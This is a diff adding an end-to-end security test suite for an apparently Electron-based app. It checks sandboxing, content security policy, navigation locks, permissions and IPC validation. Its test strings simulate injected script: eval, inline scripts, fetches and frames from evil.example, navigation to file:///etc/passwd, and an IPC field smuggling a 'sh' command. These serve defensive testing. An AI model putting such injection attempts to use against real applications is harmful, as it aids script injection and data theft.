@@ -1,0 +1,274 @@
+import { spawn } from 'node:child_process'
+import { readdirSync, readFileSync, readlinkSync } from 'node:fs'
+import { join } from 'node:path'
+import { once } from 'node:events'
+import type { Bridge } from '../src/shared/ipc-wire'
+import { appEnvironment, root } from '../scripts/project.mjs'
+import { electronExecutable, electronSwitches, expect, test } from './fixtures'
+
+test('the window is hardened', async ({ running: { app, window } }) => {
+  const preferences = await app.evaluate(({ BrowserWindow }) => {
+    const [first] = BrowserWindow.getAllWindows()
+    // Not in the API documents, but there: the only way to see what really holds.
+    const contents = first?.webContents as unknown as { getLastWebPreferences(): object }
+    return contents.getLastWebPreferences()
+  })
+  expect(preferences).toMatchObject({
+    sandbox: true,
+    contextIsolation: true,
+    nodeIntegration: false,
+    nodeIntegrationInSubFrames: false,
+    webSecurity: true,
+    webviewTag: false,
+    allowRunningInsecureContent: false,
+    experimentalFeatures: false
+  })
+  const globals = await window.evaluate(() => ({
+    require: typeof (globalThis as Record<string, unknown>)['require'],
+    process: typeof (globalThis as Record<string, unknown>)['process'],
+    module: typeof (globalThis as Record<string, unknown>)['module'],
+    Buffer: typeof (globalThis as Record<string, unknown>)['Buffer'],
+    bridge: Object.keys((globalThis as unknown as { patchbay: object }).patchbay)
+  }))
+  expect(globals).toEqual({
+    require: 'undefined',
+    process: 'undefined',
+    module: 'undefined',
+    Buffer: 'undefined',
+    bridge: ['request', 'on']
+  })
+  expect(new URL(window.url()).protocol).toBe('app:')
+})
+
+/** What injected script would try. Text, because the type checker and the linter rightly refuse it. */
+const ATTACKS = `(async () => {
+  const violations = []
+  document.addEventListener('securitypolicyviolation', (event) =>
+    violations.push(event.effectiveDirective)
+  )
+  // Playwright's own evaluation may use eval; a task of the page may not.
+  await new Promise((resolve) => setTimeout(resolve))
+  const attempts = {
+    eval: () => (0, eval)('1'),
+    Function: () => new Function('return 1')(),
+    timer: () => setTimeout('globalThis.hacked = true'),
+    markup: () => (document.createElement('div').innerHTML = '<b>x</b>'),
+    worker: () => new Worker('https://evil.example/worker.js'),
+    fetch: () => fetch('https://evil.example/'),
+    inline: () => {
+      const script = document.createElement('script')
+      script.textContent = 'globalThis.hacked = true'
+      document.head.append(script)
+    }
+  }
+  const thrown = []
+  for (const [name, attempt] of Object.entries(attempts)) {
+    try {
+      await attempt()
+    } catch {
+      thrown.push(name)
+    }
+  }
+  const image = document.createElement('img')
+  const imageFailed = new Promise((resolve) => image.addEventListener('error', resolve))
+  image.src = 'https://evil.example/pixel.png'
+  document.body.append(image)
+  await imageFailed
+  const frame = document.createElement('iframe')
+  const frameRefused = new Promise((resolve) =>
+    document.addEventListener('securitypolicyviolation', (event) => {
+      if (event.effectiveDirective === 'frame-src') resolve()
+    })
+  )
+  frame.src = 'https://evil.example/'
+  document.body.append(frame)
+  await frameRefused
+  return { thrown, violations, hacked: 'hacked' in globalThis }
+})()`
+
+test('the policy refuses eval, inline script, remote content and untrusted markup', async ({
+  window,
+  complaints
+}) => {
+  const refused = await window.evaluate<{
+    thrown: string[]
+    violations: string[]
+    hacked: boolean
+  }>(ATTACKS)
+  expect(refused.hacked).toBe(false)
+  expect(refused.thrown).toEqual([
+    'eval',
+    'Function',
+    'timer',
+    'markup',
+    'worker',
+    'fetch',
+    'inline'
+  ])
+  expect(new Set(refused.violations)).toEqual(
+    new Set(['require-trusted-types-for', 'img-src', 'frame-src', 'connect-src'])
+  )
+  complaints.length = 0
+})
+
+test('the policy is a header of every answer, and nothing outside the bundle is served', async ({
+  running: { app }
+}) => {
+  const [page, outside] = await app.evaluate(async ({ net }) => {
+    const ask = async (url: string) => {
+      const response = await net.fetch(url)
+      return { status: response.status, policy: response.headers.get('content-security-policy') }
+    }
+    return Promise.all([ask('app://patchbay/index.html'), ask('app://patchbay/../../package.json')])
+  })
+  expect(page?.status).toBe(200)
+  expect(page?.policy).toContain("script-src 'self'")
+  expect(page?.policy).not.toMatch(/unsafe-eval|script-src[^;]*unsafe-inline/)
+  expect(outside?.status).toBe(404)
+})
+
+test('the window cannot be led elsewhere', async ({ running: { app, window }, complaints }) => {
+  const home = window.url()
+  await window.evaluate(async () => {
+    globalThis.open('https://evil.example/')
+    const link = document.createElement('a')
+    link.href = 'https://evil.example/'
+    link.target = '_blank'
+    document.body.append(link)
+    link.click()
+    const form = document.createElement('form')
+    form.action = 'https://evil.example/'
+    document.body.append(form)
+    form.submit()
+    location.href = 'https://evil.example/'
+    location.assign('file:///etc/passwd')
+    location.assign('data:text/html,hello')
+    await new Promise((resolve) => setTimeout(resolve, 300))
+  })
+  expect(window.url()).toBe(home)
+  expect(await app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1)
+  expect(await window.evaluate(() => document.querySelector('nav') !== null)).toBe(true)
+  complaints.length = 0
+})
+
+test('the page gets no permission', async ({ window }) => {
+  const states = await window.evaluate(async () => {
+    const names = ['geolocation', 'notifications', 'camera', 'microphone', 'clipboard-read', 'midi']
+    const query = async (name: string) =>
+      (await navigator.permissions.query({ name: name as PermissionName })).state
+    const media = navigator.mediaDevices.getUserMedia({ audio: true }).then(
+      () => 'granted',
+      () => 'refused'
+    )
+    return [
+      ...(await Promise.all(names.map(query))),
+      await Notification.requestPermission(),
+      await media
+    ]
+  })
+  expect(states).toEqual([...Array<string>(7).fill('denied'), 'refused'])
+})
+
+test('main refuses what the contract does not know', async ({ window }) => {
+  const ask = (route: unknown, input: unknown) =>
+    window.evaluate(
+      async ([name, json]) => {
+        const { patchbay } = globalThis as unknown as { patchbay: Bridge }
+        return JSON.parse(await patchbay.request(name as string, json as string)) as unknown
+      },
+      [route, input] as const
+    )
+  const refused = { ok: false, error: { code: 'INVALID_INPUT' } }
+  expect(await ask('no.such.route', '')).toMatchObject(refused)
+  expect(await ask('__proto__', '')).toMatchObject(refused)
+  expect(await ask('session.open', '{"serverId":7}')).toMatchObject(refused)
+  expect(await ask('session.open', '{"serverId":"demo","command":"sh"}')).toMatchObject(refused)
+  expect(await ask('session.open', '{')).toMatchObject(refused)
+  expect(await ask('session.open', { serverId: 'demo' })).toMatchObject(refused)
+  expect(await ask('session.open', '{"serverId":"nope"}')).toMatchObject({
+    ok: false,
+    error: { code: 'NOT_FOUND' }
+  })
+  expect(await ask('servers.list', '')).toMatchObject({ ok: true })
+})
+
+test('there is one door into main', async ({ running: { app } }) => {
+  const doors = await app.evaluate(({ ipcMain }) => {
+    const { _invokeHandlers } = ipcMain as unknown as { _invokeHandlers: Map<string, unknown> }
+    return { handlers: [..._invokeHandlers.keys()], listeners: ipcMain.eventNames() }
+  })
+  const electronsOwn = ['IMPORT_SHARED_TEXTURE_RELEASE_RENDERER_TO_MAIN']
+  expect({
+    handlers: doors.handlers.filter((name) => !electronsOwn.includes(name)),
+    listeners: doors.listeners
+  }).toEqual({ handlers: ['patchbay:request'], listeners: ['error'] })
+})
+
+test('no socket listens, with a server open', async ({ profile }) => {
+  test.skip(process.platform !== 'linux', 'reads /proc')
+  // Playwright itself makes the app listen, so this one is started without it.
+  const app = spawn(
+    electronExecutable(),
+    [...electronSwitches(), root, `--profile=${profile}`, '--open=demo'],
+    { env: appEnvironment(), stdio: ['ignore', 'pipe', 'ignore'] }
+  )
+  try {
+    await once(app.stdout, 'data')
+    const pids = () => descendantsOf(app.pid ?? 0)
+    await expect.poll(() => pids().some((pid) => commandOf(pid).includes('demo-server'))).toBe(true)
+    expect(pids().length).toBeGreaterThan(3)
+    expect(listeningSocketsOf(pids())).toEqual([])
+  } finally {
+    app.kill()
+    await once(app, 'exit')
+  }
+})
+
+test('the bundle of the window makes no code out of text', () => {
+  const folder = join(root, 'out/renderer/assets')
+  const offenders = readdirSync(folder)
+    .filter((name) => name.endsWith('.js'))
+    .filter((name) => /\beval\(|new Function\(/.test(readFileSync(join(folder, name), 'utf8')))
+  expect(offenders).toEqual([])
+})
+
+function descendantsOf(pid: number): number[] {
+  const children = readdirSync(`/proc/${pid}/task`).flatMap((task) =>
+    readFileSync(`/proc/${pid}/task/${task}/children`, 'utf8')
+      .split(' ')
+      .filter(Boolean)
+      .map(Number)
+  )
+  return [pid, ...children.flatMap(descendantsOf)]
+}
+
+function commandOf(pid: number): string {
+  return readFileSync(`/proc/${pid}/cmdline`, 'utf8').replaceAll('\0', ' ')
+}
+
+function listeningSocketsOf(pids: readonly number[]): string[] {
+  const LISTEN = '0A'
+  const inodes = new Map<string, string>()
+  for (const table of ['tcp', 'tcp6']) {
+    const [, ...lines] = readFileSync(`/proc/net/${table}`, 'utf8').trim().split('\n')
+    for (const line of lines) {
+      const columns = line.trim().split(/\s+/)
+      if (columns[3] === LISTEN) inodes.set(`socket:[${columns[9]}]`, columns[1] ?? '')
+    }
+  }
+  return pids.flatMap((pid) =>
+    readdirSync(`/proc/${pid}/fd`).flatMap((fd) => {
+      const target = readlinkOrNone(`/proc/${pid}/fd/${fd}`)
+      const address = inodes.get(target)
+      return address === undefined ? [] : [`${pid} ${address}`]
+    })
+  )
+}
+
+function readlinkOrNone(path: string): string {
+  try {
+    return readlinkSync(path)
+  } catch {
+    return '' // closed since it was listed
+  }
+}
